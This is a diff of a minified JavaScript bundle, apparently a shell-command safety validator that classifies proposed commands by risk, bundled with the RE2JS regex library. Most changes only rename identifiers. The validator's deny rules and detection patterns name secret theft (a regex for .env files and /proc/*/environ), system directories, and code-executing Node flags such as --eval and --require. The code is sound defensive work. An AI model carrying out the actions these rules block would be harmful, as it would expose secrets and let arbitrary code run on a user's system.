 requires a value"):c.push({text:b,kind:y.kind,word:D??C}))}const u=r.find(({flag:C})=>!s.includes(C?.name??"")),d=(C=[])=>C.
 some(y=>l.includes(y)),B=(Ba(e.operands??"path*")??[]).slice(d(e.first_operand_by)?1:0);for(const[C,y]of i.entries()){s.
-length>0&&u&&Gm(y,u.word)&&a(y,"comes after the expression");const b=B[Math.min(C,B.length-1)];c.push({text:y.text,kind:b?.
+length>0&&u&&jm(y,u.word)&&a(y,"comes after the expression");const b=B[Math.min(C,B.length-1)];c.push({text:y.text,kind:b?.
 kind??"path",word:y})}for(const{text:C,kind:y,word:b}of c){const D=n(y,C);D!==void 0&&o.push({objection:`does not accept\
- \`${C}\`, which ${D}`,word:b})}const{min:f,max:h}=hf(B),m=f-(d(e.last_operand_by)?1:0),g=i.length;if(g<m||g>h){const C=h===
+ \`${C}\`, which ${D}`,word:b})}const{min:f,max:h}=ff(B),m=f-(d(e.last_operand_by)?1:0),g=i.length;if(g<m||g>h){const C=h===
 m?`${h}`:`${m} to ${h}`,y=Number.isFinite(h)?C:`at least ${m}`;o.push({objection:`takes ${y} operands, not ${g}`})}return{
-use:e,flags:l,values:c,objections:o}}function Gm(t,e){return t.span.start>e.span.start}function Hm(t,{invocation:e}){const n=e?.
+use:e,flags:l,values:c,objections:o}}function jm(t,e){return t.span.start>e.span.start}function Mm(t,{invocation:e}){const n=e?.
 family?["program","invocation","target"]:["program"];return t.filter(({layer:s,rule:r})=>!n.includes(String(s))||(0,Kn.Y)(
-r).anyText===!0)}function zm(t,e){const n=new Map;return t.filter(({rule:s})=>{const r=(n.get(s)??0)+1;return n.set(s,r),
-r<=e})}function Um({problems:t}){return t.map(Oe.Lb)}const tN=10,nN=[iN,oN,cN,uN,lN,t=>Vm(Wm(t),t.context.policy)],Jm=(t,e,n)=>{
-const{policy:s,proposal:r}=n,[i,...o]=mN(t),a=[...CN(t),...Hm(e,t)],c=r.family??i?.text??"",l=xm("curated",c,s.families),
+r).anyText===!0)}function Gm(t,e){const n=new Map;return t.filter(({rule:s})=>{const r=(n.get(s)??0)+1;return n.set(s,r),
+r<=e})}function Hm({problems:t}){return t.map(Oe.Lb)}const ZN=10,KN=[VN,YN,QN,eR,tR,t=>Wm(Zm(t),t.context.policy)],zm=(t,e,n)=>{
+const{policy:s,proposal:r}=n,[i,...o]=aR(t),a=[...uR(t),...Mm(e,t)],c=r.family??i?.text??"",l=vm("curated",c,s.families),
 u=r.mode??(s.experimental.includes(c)?"experimental":"structured");if(i===void 0||l===void 0){const _=i?(0,Oe.gk)("not_i\
-n_registry",{family:c},{span:i.span}):(0,Oe.gk)("no_command",{});return{...qm("dangerous",n),findings:[_,...a].filter(Zm)}}
-const d=new Ec(n),B=Lm(o,l,pN(d)),f=sN(B),h=new Set(l.dangerous_targets?.map(_=>d.locate(_))),m=f.some(({path:_})=>h.has(
+n_registry",{family:c},{span:i.span}):(0,Oe.gk)("no_command",{});return{...Km("dangerous",n),findings:[_,...a].filter(Um)}}
+const d=new _c(n),B=Rm(o,l,oR(d)),f=WN(B),h=new Set(l.dangerous_targets?.map(_=>d.locate(_))),m=f.some(({path:_})=>h.has(
 d.locate(_.replace(/\*$/,"")))),g={context:n,places:d,base:i,name:c,program:l,proposalMode:u,words:o,read:B,paths:f,broad:m},
-[C,...y]=nN.map(_=>_(g)),b=[...C??[],...a,...y.flat()],D=Wm(g),O=Ym(D,u);return{findings:b.some(({severity:_})=>_==="err\
-or")?zm(b.filter(Zm),tN):[...b,...BN(g).map(_=>(0,Oe.gk)(_,{}))],risk:D,confirmation:O}};function Zm({severity:t}){return t!==
-"warning"}function sN({use:t,values:e}){const n=e.filter(({kind:r,text:i})=>sf.has(r)&&i!=="-").map(({text:r,word:i})=>({
-path:r,word:i})),{default_operand:s}=t;return n.length===0&&s!==void 0?[{path:s}]:n}const rN={structured:["structured","\
-experimental"],direct_only:["structured"],experimental_only:["experimental"],blocked:[]};function iN({name:t,base:e,program:n,
+[C,...y]=KN.map(_=>_(g)),b=[...C??[],...a,...y.flat()],D=Zm(g),O=qm(D,u);return{findings:b.some(({severity:_})=>_==="err\
+or")?Gm(b.filter(Um),ZN):[...b,...sR(g).map(_=>(0,Oe.gk)(_,{}))],risk:D,confirmation:O}};function Um({severity:t}){return t!==
+"warning"}function WN({use:t,values:e}){const n=e.filter(({kind:r,text:i})=>nf.has(r)&&i!=="-").map(({text:r,word:i})=>({
+path:r,word:i})),{default_operand:s}=t;return n.length===0&&s!==void 0?[{path:s}]:n}const qN={structured:["structured","\
+experimental"],direct_only:["structured"],experimental_only:["experimental"],blocked:[]};function VN({name:t,base:e,program:n,
 proposalMode:s,context:r}){const{maturity:i="structured",platforms:o}=n.family.sandbox??{},{category:a}=n.family,{policy:c,
-platform:l}=r,u=rN[i];return[...c.disabled_packs.includes(a)?[`is in the disabled pack \`${a}\``]:[],...o?.includes(l)===
+platform:l}=r,u=qN[i];return[...c.disabled_packs.includes(a)?[`is in the disabled pack \`${a}\``]:[],...o?.includes(l)===
 !1?[`does not exist on \`${l}\``]:[],...u.includes(s)?[]:[`has the maturity \`${i}\``]].map(B=>(0,Oe.gk)("family_unavail\
-able",{family:t,reason:B},{span:e.span}))}function oN({name:t,base:e}){return t===e.text?[]:[(0,Oe.gk)("family_base_mism\
-atch",{family:t,base:e.text},{span:e.span})]}const aN={tar:"constrained_form.tar",unzip:"constrained_form.unzip",zip:"co\
+able",{family:t,reason:B},{span:e.span}))}function YN({name:t,base:e}){return t===e.text?[]:[(0,Oe.gk)("family_base_mism\
+atch",{family:t,base:e.text},{span:e.span})]}const XN={tar:"constrained_form.tar",unzip:"constrained_form.unzip",zip:"co\
 nstrained_form.zip",ping:"constrained_form.ping",curl:"constrained_form.curl",dig:"constrained_form.dns",nslookup:"const\
-rained_form.dns"};function cN(t){const{name:e,program:n,words:s,read:r}=t,i=aN[e]??"constrained_form.other",o=n.forms?i:
-"argument_refused";return[...s.filter(({text:c})=>n.family.category==="archives"&&rf.test(c)).map(({text:c,span:l})=>(0,Oe.
-gk)("shell_operator.quoted",{operator:c},{span:l})),...r.objections.filter(({word:c})=>c===void 0||Km(c,t)===void 0).map(
-({objection:c,word:l})=>(0,Oe.gk)(o,{family:e,objection:c},l?{span:l.span}:{}))]}function uN(t){return t.words.flatMap(e=>{
-const n=Km(e,t);if(n===void 0)return[];const s={family:t.name,operand:e.text,prefix:n};return[(0,Oe.gk)("forbidden_opera\
-nd_prefix",s,{span:e.span})]})}function Km({text:t},{program:e}){const{forbidden_prefixes:n=[]}=e;return n.find(s=>t.toLowerCase().
-startsWith(s.toLowerCase()))}function lN({paths:t,places:e,context:n}){const{allowed_roots:s}=n.policy;return s.length===
+rained_form.dns"};function QN(t){const{name:e,program:n,words:s,read:r}=t,i=XN[e]??"constrained_form.other",o=n.forms?i:
+"argument_refused";return[...s.filter(({text:c})=>n.family.category==="archives"&&sf.test(c)).map(({text:c,span:l})=>(0,Oe.
+gk)("shell_operator.quoted",{operator:c},{span:l})),...r.objections.filter(({word:c})=>c===void 0||Jm(c,t)===void 0).map(
+({objection:c,word:l})=>(0,Oe.gk)(o,{family:e,objection:c},l?{span:l.span}:{}))]}function eR(t){return t.words.flatMap(e=>{
+const n=Jm(e,t);if(n===void 0)return[];const s={family:t.name,operand:e.text,prefix:n};return[(0,Oe.gk)("forbidden_opera\
+nd_prefix",s,{span:e.span})]})}function Jm({text:t},{program:e}){const{forbidden_prefixes:n=[]}=e;return n.find(s=>t.toLowerCase().
+startsWith(s.toLowerCase()))}function tR({paths:t,places:e,context:n}){const{allowed_roots:s}=n.policy;return s.length===
 0?[]:t.filter(({path:r})=>r.startsWith("~")||!e.leadsInto(r,s)).map(({path:r,word:i})=>(0,Oe.gk)("outside_allowed_roots",
-{path:r,roots:s},i&&{span:i.span}))}function Wm({broad:t,read:{use:e}}){return t?"dangerous":e.risk??"safe"}const dN=/(?:^|[\\/])\.env(?:\.[\w.-]+)?$|^\/proc\/[^/]+\/environ$/i;
-function BN({broad:t,paths:e,proposalMode:n,read:s}){const{flag_warnings:r={}}=s.use;return[...new Set([...Fm(s.use),...s.
-flags.flatMap(o=>r[o]??[]),...t?["broad_permission_target"]:[],...e.some(({path:o})=>dN.test(o))?["env_secrets"]:[],...n===
-"experimental"?["experimental_mode"]:[]])]}function qm(t,{policy:e,proposal:n}){const s=Ym(t,n.mode??"structured");return{
-findings:Vm(t,e),risk:t,confirmation:s}}function Vm(t,{mode:e,allow_dangerous:n}){return t==="safe"||t==="write"&&e!=="s\
-afe"||t==="dangerous"&&e==="dangerous"&&n?[]:[(0,Oe.gk)("policy_risk",{risk:t,mode:e})]}function Ym(t,e){return e==="exp\
-erimental"?"very_strong":t==="dangerous"?"strong":"standard"}const fN=["/bin","/dev","/etc","/lib","/private","/sbin","/\
-usr","/var"],hN=/^\/(?:home|Users|root)(?:\/[^/]*)?$/i;function pN(t){return(e,n)=>{const s=Bs[e](n);if(s!==void 0||e!==
+{path:r,roots:s},i&&{span:i.span}))}function Zm({broad:t,read:{use:e}}){return t?"dangerous":e.risk??"safe"}const nR=/(?:^|[\\/])\.env(?:\.[\w.-]+)?$|^\/proc\/[^/]+\/environ$/i;
+function sR({broad:t,paths:e,proposalMode:n,read:s}){const{flag_warnings:r={}}=s.use;return[...new Set([...Nm(s.use),...s.
+flags.flatMap(o=>r[o]??[]),...t?["broad_permission_target"]:[],...e.some(({path:o})=>nR.test(o))?["env_secrets"]:[],...n===
+"experimental"?["experimental_mode"]:[]])]}function Km(t,{policy:e,proposal:n}){const s=qm(t,n.mode??"structured");return{
+findings:Wm(t,e),risk:t,confirmation:s}}function Wm(t,{mode:e,allow_dangerous:n}){return t==="safe"||t==="write"&&e!=="s\
+afe"||t==="dangerous"&&e==="dangerous"&&n?[]:[(0,Oe.gk)("policy_risk",{risk:t,mode:e})]}function qm(t,e){return e==="exp\
+erimental"?"very_strong":t==="dangerous"?"strong":"standard"}const rR=["/bin","/dev","/etc","/lib","/private","/sbin","/\
+usr","/var"],iR=/^\/(?:home|Users|root)(?:\/[^/]*)?$/i;function oR(t){return(e,n)=>{const s=Bs[e](n);if(s!==void 0||e!==
 "destination"&&e!=="source")return s;const r=t.locate(n);if(r===void 0)return"cannot be resolved";if(r==="/")return"is t\
-he root of the file system";const o=(/^[\\/]|^[A-Za-z]:/.test(n)||!t.isIn(r,t.cwd))&&fN.find(a=>t.mayBeIn(r,a));if(o)return`\
+he root of the file system";const o=(/^[\\/]|^[A-Za-z]:/.test(n)||!t.isIn(r,t.cwd))&&rR.find(a=>t.mayBeIn(r,a));if(o)return`\
 is in the system directory ${o}`;if(e!=="destination")return t.mayBeIn(t.cwd,r)?"is the working directory or one of its \
-parents":hN.test(r)?"is a home directory":void 0}}function mN({words:t,problems:e}){const n=e.filter(({rule:r})=>gN.has(
-(0,Kn.Y)(r).shape)),s=Math.min(...n.map(({span:r})=>r.start));return t.filter(({span:r})=>r.start<s)}const gN=new Set(["\
-operator","redirection","multiline"]);function CN({problems:t}){return t.flatMap(({rule:e,args:n,span:s})=>{const{shape:r}=(0,Kn.
+parents":iR.test(r)?"is a home directory":void 0}}function aR({words:t,problems:e}){const n=e.filter(({rule:r})=>cR.has(
+(0,Kn.Y)(r).shape)),s=Math.min(...n.map(({span:r})=>r.start));return t.filter(({span:r})=>r.start<s)}const cR=new Set(["\
+operator","redirection","multiline"]);function uR({problems:t}){return t.flatMap(({rule:e,args:n,span:s})=>{const{shape:r}=(0,Kn.
 Y)(e);if(r===void 0)return[];if(r==="unreadable")return[(0,Oe.gk)("parse_failed",{},{span:s})];const{operator:i,written:o,
-character:a}=n,c=String(i??o??a),l=r==="operator"?yN(c):r;return[(0,Oe.gk)(`shell_operator.${l}`,{operator:c},{span:s})]})}
-function yN(t){return t==="|"||t==="|&"?"pipeline":t==="&"?"background":"chaining"}const wN=(t,e,n)=>{const s=t.words[0]?.
-text;if(t.invocation===void 0&&s&&UR(s,n.policy))return Jm(t,e,_N(n));const r=bN(t,e);return{findings:e,...r&&{risk:r}}};
-function bN({invocation:t},e){const n=t?.family?.data.risk;return e.some(({severity:r})=>r==="error")||n==="safe"?void 0:
-n}function _N(t){const{policy:e}=t,n=e.allowed_roots.length>0?e.allowed_roots:["."];return{...t,policy:{...e,allowed_roots:n}}}
-const Xm=/^(?:-e|--eval|-p|--print|-r|--require|--import|--loader|--experimental[-_]loader|-i|--interactive|--inspect[a-z-]*|-C|--conditions|--env[-_]file(?:[-_]if[-_]exists)?|-[eprci]{2,})(?:=|$)/,
-Qm={"1.94":{refused:Xm,information:new Set(["--version","--help","--v8-options"])},newer:{refused:Xm,options:new Set(["-\
--check"]),information:new Set(["--version","--help"]),text:/`|\$\(/}},EN=(t,e)=>{const{invocation:n}=t,s=[...e,...tg("1.\
-94",t)];if(s.some(({severity:o})=>o==="error"))return{findings:s};const[r]=tg("newer",t);if(r){const o=String(r.args.flag??
-""),a={...r.span&&{span:r.span},...kN};s.push((0,Oe.gk)("validator-flag",{flag:o,of:"newer"},a))}const i=n?.operands[0];
-if(i&&!eg(n,Qm["1.94"])){const{text:o,span:a}=i;s.push((0,Oe.gk)("validator-empty-folder",{script:o},{span:a}))}return{findings:s}},
-kN={severity:"notice",harm:"bookkeeping"};function eg({flags:t},{information:e}){return t.some(({name:n})=>e.has(n))}function tg(t,{
-words:e,invocation:n,command:s}){const r=Qm[t],[i,...o]=e;if(i===void 0)return[];const a=C=>(0,Oe.gk)("validator-script",
+character:a}=n,c=String(i??o??a),l=r==="operator"?lR(c):r;return[(0,Oe.gk)(`shell_operator.${l}`,{operator:c},{span:s})]})}
+function lR(t){return t==="|"||t==="|&"?"pipeline":t==="&"?"background":"chaining"}const dR=(t,e,n)=>{const s=t.words[0]?.
+text;if(t.invocation===void 0&&s&&RN(s,n.policy))return zm(t,e,fR(n));const r=BR(t,e);return{findings:e,...r&&{risk:r}}};
+function BR({invocation:t},e){const n=t?.family?.data.risk;return e.some(({severity:r})=>r==="error")||n==="safe"?void 0:
+n}function fR(t){const{policy:e}=t,n=e.allowed_roots.length>0?e.allowed_roots:["."];return{...t,policy:{...e,allowed_roots:n}}}
+const Vm=/^(?:-e|--eval|-p|--print|-r|--require|--import|--loader|--experimental[-_]loader|-i|--interactive|--inspect[a-z-]*|-C|--conditions|--env[-_]file(?:[-_]if[-_]exists)?|-[eprci]{2,})(?:=|$)/,
+Ym={"1.94":{refused:Vm,information:new Set(["--version","--help","--v8-options"])},newer:{refused:Vm,options:new Set(["-\
+-check"]),information:new Set(["--version","--help"]),text:/`|\$\(/}},hR=(t,e)=>{const{invocation:n}=t,s=[...e,...Qm("1.\
+94",t)];if(s.some(({severity:o})=>o==="error"))return{findings:s};const[r]=Qm("newer",t);if(r){const o=String(r.args.flag??
+""),a={...r.span&&{span:r.span},...pR};s.push((0,Oe.gk)("validator-flag",{flag:o,of:"newer"},a))}const i=n?.operands[0];
+if(i&&!Xm(n,Ym["1.94"])){const{text:o,span:a}=i;s.push((0,Oe.gk)("validator-empty-folder",{script:o},{span:a}))}return{findings:s}},
+pR={severity:"notice",harm:"bookkeeping"};function Xm({flags:t},{information:e}){return t.some(({name:n})=>e.has(n))}function Qm(t,{
+words:e,invocation:n,command:s}){const r=Ym[t],[i,...o]=e;if(i===void 0)return[];const a=C=>(0,Oe.gk)("validator-script",
 {command:C},{span:i.span});if(i.text!=="node")return[a(`\`${i.text}\``)];const{flags:c=[],operands:[l]=[]}=n??{},u=(C,y)=>{
 const b=l&&l.span.start<y.start?"script":"node";return(0,Oe.gk)("validator-flag",{flag:C,of:b},{span:y})},d=n!==void 0&&
-eg(n,r),B=d&&c.length===1&&l===void 0,{options:f}=r,h=B||f===void 0?[]:c.filter(({name:C})=>!f.has(C)),m=r.text?.exec(s),
+Xm(n,r),B=d&&c.length===1&&l===void 0,{options:f}=r,h=B||f===void 0?[]:c.filter(({name:C})=>!f.has(C)),m=r.text?.exec(s),
 g=c.some(({name:C})=>C==="--test");return[...o.flatMap(({text:C,span:y})=>r.refused.test(C)?[u(C,y)]:[]),...h.map(({written:C,
 span:y})=>u(C,y)),...m?[u(m[0],{start:m.index,end:m.index+m[0].length})]:[],...(l===void 0||g)&&!d?[a("`node` without a \
 script")]:[]]}/*!
@@ -5715,26 +5706,26 @@ script")]:[]]}/*!
 * @license MIT
 */var F=class Xn{static FOLD_CASE=1;static LITERAL=2;static CLASS_NL=4;static DOT_NL=8;static ONE_LINE=16;static NON_GREEDY=32;static PERL_X=64;static UNICODE_GROUPS=128;static WAS_DOLLAR=256;static LOOKBEHIND=512;static MATCH_NL=Xn.
 CLASS_NL|Xn.DOT_NL;static PERL=Xn.CLASS_NL|Xn.ONE_LINE|Xn.PERL_X|Xn.UNICODE_GROUPS;static POSIX=0;static UNANCHORED=0;static ANCHOR_START=1;static ANCHOR_BOTH=2};
-const gt={CASE_INSENSITIVE:1,DOTALL:2,MULTILINE:4,DISABLE_UNICODE_GROUPS:8,LONGEST_MATCH:16,LOOKBEHINDS:512},rr=128,kc=new Int32Array(
-rr),vc=new Int32Array(rr),Fi=65535;for(let t=0;t<rr;t++)t>=97&&t<=122?kc[t]=t-32:kc[t]=t,t>=65&&t<=90?vc[t]=t+32:vc[t]=t;
+const gt={CASE_INSENSITIVE:1,DOTALL:2,MULTILINE:4,DISABLE_UNICODE_GROUPS:8,LONGEST_MATCH:16,LOOKBEHINDS:512},nr=128,Ec=new Int32Array(
+nr),kc=new Int32Array(nr),Fi=65535;for(let t=0;t<nr;t++)t>=97&&t<=122?Ec[t]=t-32:Ec[t]=t,t>=65&&t<=90?kc[t]=t+32:kc[t]=t;
 var L=class{static CODES=Object.freeze({"\x07":7,"\b":8,"	":9,"\n":10,"\v":11,"\f":12,"\r":13," ":32,'"':34,$:36,"&":38,
 "'":39,"(":40,")":41,"*":42,"+":43,"-":45,".":46,0:48,1:49,2:50,3:51,4:52,5:53,6:54,7:55,8:56,9:57,":":58,"<":60,">":62,
 "?":63,A:65,B:66,C:67,F:70,P:80,Q:81,U:85,Z:90,"[":91,"\\":92,"]":93,"^":94,_:95,"`":96,a:97,b:98,f:102,i:105,m:109,n:110,
-r:114,s:115,t:116,v:118,x:120,z:122,"{":123,"|":124,"}":125});static toUpperCase(t){if(t<rr)return kc[t];const e=String.
+r:114,s:115,t:116,v:118,x:120,z:122,"{":123,"|":124,"}":125});static toUpperCase(t){if(t<nr)return Ec[t];const e=String.
 fromCodePoint(t).toUpperCase(),n=e.codePointAt(0)>Fi?2:1;if(e.length>n)return t;const s=String.fromCodePoint(e.codePointAt(
 0)).toLowerCase(),r=s.codePointAt(0)>Fi?2:1;return s.length>r||s.codePointAt(0)!==t?t:e.codePointAt(0)}static toLowerCase(t){
-if(t<rr)return vc[t];const e=String.fromCodePoint(t).toLowerCase(),n=e.codePointAt(0)>Fi?2:1;if(e.length>n)return t;const s=String.
+if(t<nr)return kc[t];const e=String.fromCodePoint(t).toLowerCase(),n=e.codePointAt(0)>Fi?2:1;if(e.length>n)return t;const s=String.
 fromCodePoint(e.codePointAt(0)).toUpperCase(),r=s.codePointAt(0)>Fi?2:1;return s.length>r||s.codePointAt(0)!==t?t:e.codePointAt(
 0)}},E=class{constructor(t,e=!1){this.data=t,this.isStride1=e,this.SIZE=e?2:3}getLo(t){return this.data[t*this.SIZE]}getHi(t){
 return this.data[t*this.SIZE+1]}getStride(t){return this.isStride1?1:this.data[t*this.SIZE+2]}get length(){return this.data.
-length/this.SIZE}};const vN="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+-",ng=new Uint8Array(256);for(let t=0;t<
-64;t++)ng[vN.charCodeAt(t)]=t;const sg=t=>{const e=[];let n=0,s=0;for(let r=0;r<t.length;r++){const i=ng[t.charCodeAt(r)];
-n|=(i&31)<<s,(i&32)===0?(e.push(n),n=0,s=0):s+=5}return e},k=(t,e)=>{const n=sg(t),s=e?n.length/2:n.length/3,r=new Uint32Array(
-s*3);let i=0,o=0;for(let a=0;a<s;a++)i+=n[o++],r[a*3]=i,i+=n[o++],r[a*3+1]=i,r[a*3+2]=e?1:n[o++];return r},DN=t=>{const e=sg(
+length/this.SIZE}};const mR="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+-",eg=new Uint8Array(256);for(let t=0;t<
+64;t++)eg[mR.charCodeAt(t)]=t;const tg=t=>{const e=[];let n=0,s=0;for(let r=0;r<t.length;r++){const i=eg[t.charCodeAt(r)];
+n|=(i&31)<<s,(i&32)===0?(e.push(n),n=0,s=0):s+=5}return e},k=(t,e)=>{const n=tg(t),s=e?n.length/2:n.length/3,r=new Uint32Array(
+s*3);let i=0,o=0;for(let a=0;a<s;a++)i+=n[o++],r[a*3]=i,i+=n[o++],r[a*3+1]=i,r[a*3+2]=e?1:n[o++];return r},gR=t=>{const e=tg(
 t),n=new Map;let s=0;for(let r=0;r<e.length;r+=2){s+=e[r];const i=e[r+1],o=i>>>1^-(i&1);n.set(s,s+o)}return n};var Li=class{constructor(t){
 this.initializer=t,this.cache=new Map}has(t){return Object.hasOwn(this.initializer,t)}get(t){if(this.cache.has(t))return this.
-cache.get(t);const e=this.has(t)?this.initializer[t]():null;return this.cache.set(t,e),e}},Nt=class{static _CASE_ORBIT=null;static get CASE_ORBIT(){
-return this._CASE_ORBIT||(this._CASE_ORBIT=DN("rCgCIgCY+rQI4QiCuuBLgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgC\
+cache.get(t);const e=this.has(t)?this.initializer[t]():null;return this.cache.set(t,e),e}},Rt=class{static _CASE_ORBIT=null;static get CASE_ORBIT(){
+return this._CASE_ORBIT||(this._CASE_ORBIT=gR("rCgCIgCY+rQI4QiCuuBLgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgC\
 BgCBgCBgCBgCBgCCgCBgCBgCBgCBgCBgCBgCB+7OB-BB-BB-BB-BB-BBskQB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BC-BB-BB-BB\
 -BB-BB-BB-BByHBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBDCBBBCBBBC\
 BBCCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBCCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBC\
@@ -6150,24 +6141,24 @@ return e===At.RUNE_ERROR||e>=At.MIN_HIGH_SURROGATE&&e<=At.MAX_LOW_SURROGATE}stat
 let s=0,r=e.length;for(;s<r;){const i=s+Math.floor((r-s)/2),o=e.getLo(i),a=e.getHi(i);if(o<=n&&n<=a){const c=e.getStride(
 i);return(n-o)%c===0}n<o?r=i:s=i+1}return!1}static is(e,n){if(n<=At.MAX_LATIN1){for(let s=0;s<e.length;s++){if(n>e.getHi(
 s))continue;const r=e.getLo(s);if(n<r)return!1;const i=e.getStride(s);return(n-r)%i===0}return!1}return e.length>0&&n>=e.
-getLo(0)&&At.is32(e,n)}static isPrint(e){return e<=At.MAX_LATIN1?e>=32&&e<At.MAX_ASCII||e>=161&&e!==173:At.is(Nt.Print,e)}static simpleFold(e){
-if(Nt.CASE_ORBIT.has(e))return Nt.CASE_ORBIT.get(e);if(e<=At.MAX_ASCII){const n=L.toLowerCase(e);return n!==e?n:L.toUpperCase(
+getLo(0)&&At.is32(e,n)}static isPrint(e){return e<=At.MAX_LATIN1?e>=32&&e<At.MAX_ASCII||e>=161&&e!==173:At.is(Rt.Print,e)}static simpleFold(e){
+if(Rt.CASE_ORBIT.has(e))return Rt.CASE_ORBIT.get(e);if(e<=At.MAX_ASCII){const n=L.toLowerCase(e);return n!==e?n:L.toUpperCase(
 e)}return e}static equalsIgnoreCase(e,n){if(e===n)return!0;if(e<0||n<0)return!1;if(e<=At.MAX_ASCII&&n<=At.MAX_ASCII)return 65<=
 e&&e<=90&&(e|=32),65<=n&&n<=90&&(n|=32),e===n;for(let s=At.simpleFold(e);s!==e;s=At.simpleFold(s))if(s===n)return!0;return!1}},
-ir=class extends Error{constructor(t){super(t),this.name="RE2JSException"}},Ve=class extends ir{constructor(t,e=null){let n=`\
+sr=class extends Error{constructor(t){super(t),this.name="RE2JSException"}},Ve=class extends sr{constructor(t,e=null){let n=`\
 error parsing regexp: ${t}`;e&&(n+=`: \`${e}\``),super(n),this.name="RE2JSSyntaxException",this.message=n,this.error=t,this.
-input=e}getDescription(){return this.error}getPattern(){return this.input}},or=class extends ir{constructor(t){super(t),
-this.name="RE2JSCompileException"}},Ot=class extends ir{constructor(t){super(t),this.name="RE2JSGroupException"}},rg=class extends ir{constructor(t){
-super(t),this.name="RE2JSFlagsException"}},Pi=class extends ir{constructor(t){super(t),this.name="RE2JSInternalException"}};
-const Dc=256,ig=new Uint8Array(Dc);for(let t=0;t<Dc;t++)ig[t]=97<=t&&t<=122||65<=t&&t<=90||48<=t&&t<=57||t===95?1:0;let xc=null,
-Oc=null;var V=class lt{static METACHARACTERS="\\.+*?()|[]{}^$";static EMPTY_BEGIN_LINE=1;static EMPTY_END_LINE=2;static EMPTY_BEGIN_TEXT=4;static EMPTY_END_TEXT=8;static EMPTY_WORD_BOUNDARY=16;static EMPTY_NO_WORD_BOUNDARY=32;static EMPTY_ALL=-1;static emptyInts(){
+input=e}getDescription(){return this.error}getPattern(){return this.input}},rr=class extends sr{constructor(t){super(t),
+this.name="RE2JSCompileException"}},Ot=class extends sr{constructor(t){super(t),this.name="RE2JSGroupException"}},ng=class extends sr{constructor(t){
+super(t),this.name="RE2JSFlagsException"}},Pi=class extends sr{constructor(t){super(t),this.name="RE2JSInternalException"}};
+const vc=256,sg=new Uint8Array(vc);for(let t=0;t<vc;t++)sg[t]=97<=t&&t<=122||65<=t&&t<=90||48<=t&&t<=57||t===95?1:0;let Dc=null,
+xc=null;var V=class lt{static METACHARACTERS="\\.+*?()|[]{}^$";static EMPTY_BEGIN_LINE=1;static EMPTY_END_LINE=2;static EMPTY_BEGIN_TEXT=4;static EMPTY_END_TEXT=8;static EMPTY_WORD_BOUNDARY=16;static EMPTY_NO_WORD_BOUNDARY=32;static EMPTY_ALL=-1;static emptyInts(){
 return[]}static isString(e){return typeof e=="string"||Object.prototype.toString.call(e)==="[object String]"}static typeName(e){
 return e===null||typeof e!="object"&&typeof e!="function"?e===null?"null":typeof e:Object.prototype.toString.call(e).slice(
 8,-1)}static checkPattern(e){if(!lt.isString(e))throw new TypeError(`The pattern must be a string, not ${lt.typeName(e)}\
  (RE2JS.translateRegExp() converts a RegExp)`)}static checkInput(e){if(!lt.isString(e)&&!lt.isByteArray(e))throw new TypeError(
 `The input must be a string or a byte array (Uint8Array or number[]), not ${lt.typeName(e)}`)}static checkFlags(e){const n=gt.
 MULTILINE|gt.DOTALL|gt.CASE_INSENSITIVE|gt.DISABLE_UNICODE_GROUPS|gt.LONGEST_MATCH|gt.LOOKBEHINDS;if(!Number.isInteger(e)||
-(e&~n)!==0)throw new rg("Flags should only be a combination of MULTILINE, DOTALL, CASE_INSENSITIVE, DISABLE_UNICODE_GROU\
+(e&~n)!==0)throw new ng("Flags should only be a combination of MULTILINE, DOTALL, CASE_INSENSITIVE, DISABLE_UNICODE_GROU\
 PS, LONGEST_MATCH, LOOKBEHINDS")}static isByteArray(e){return Array.isArray(e)||Object.prototype.toString.call(e)==="[ob\
 ject Uint8Array]"}static isalnum(e){return L.CODES[0]<=e&&e<=L.CODES[9]||L.CODES.a<=e&&e<=L.CODES.z||L.CODES.A<=e&&e<=L.
 CODES.Z}static unhex(e){return L.CODES[0]<=e&&e<=L.CODES[9]?e-L.CODES[0]:L.CODES.a<=e&&e<=L.CODES.f?e-L.CODES.a+10:L.CODES.
@@ -6177,46 +6168,46 @@ break;case L.CODES["	"]:n+="\\t";break;case L.CODES[`
 `]:n+="\\n";break;case L.CODES["\r"]:n+="\\r";break;case L.CODES["\b"]:n+="\\b";break;case L.CODES["\f"]:n+="\\f";break;default:{
 let s=e.toString(16);e<256?(n+="\\x",s.length===1&&(n+="0"),n+=s):n+=`\\x{${s}}`;break}}return n}static stringToRunes(e){
 const n=String(e),s=[];let r=0;for(;r<n.length;){const i=n.codePointAt(r);s.push(i),r+=i>se.MAX_BMP?2:1}return new Int32Array(
-s)}static runeToString(e){return String.fromCodePoint(e)}static isWordRune(e){return e<Dc?ig[e]===1:!1}static emptyOpContext(e,n){
+s)}static runeToString(e){return String.fromCodePoint(e)}static isWordRune(e){return e<vc?sg[e]===1:!1}static emptyOpContext(e,n){
 let s=0;return e<0&&(s|=lt.EMPTY_BEGIN_TEXT|lt.EMPTY_BEGIN_LINE),e===10&&(s|=lt.EMPTY_BEGIN_LINE),n<0&&(s|=lt.EMPTY_END_TEXT|
 lt.EMPTY_END_LINE),n===10&&(s|=lt.EMPTY_END_LINE),lt.isWordRune(e)!==lt.isWordRune(n)?s|=lt.EMPTY_WORD_BOUNDARY:s|=lt.EMPTY_NO_WORD_BOUNDARY,
 s}static quoteMeta(e){return e.split("").map(n=>lt.METACHARACTERS.indexOf(n)>=0?`\\${n}`:n).join("")}static charCount(e){
 return e>se.MAX_BMP?2:1}static toArray(e){const n=e.length,s=new Array(n);for(let r=0;r<n;r++)s[r]=e[r];return s}static stringToUtf8ByteArray(e){
-if(globalThis.TextEncoder)return xc||(xc=new TextEncoder),xc.encode(e);{let n=[],s=0;for(let r=0;r<e.length;r++){let i=e.
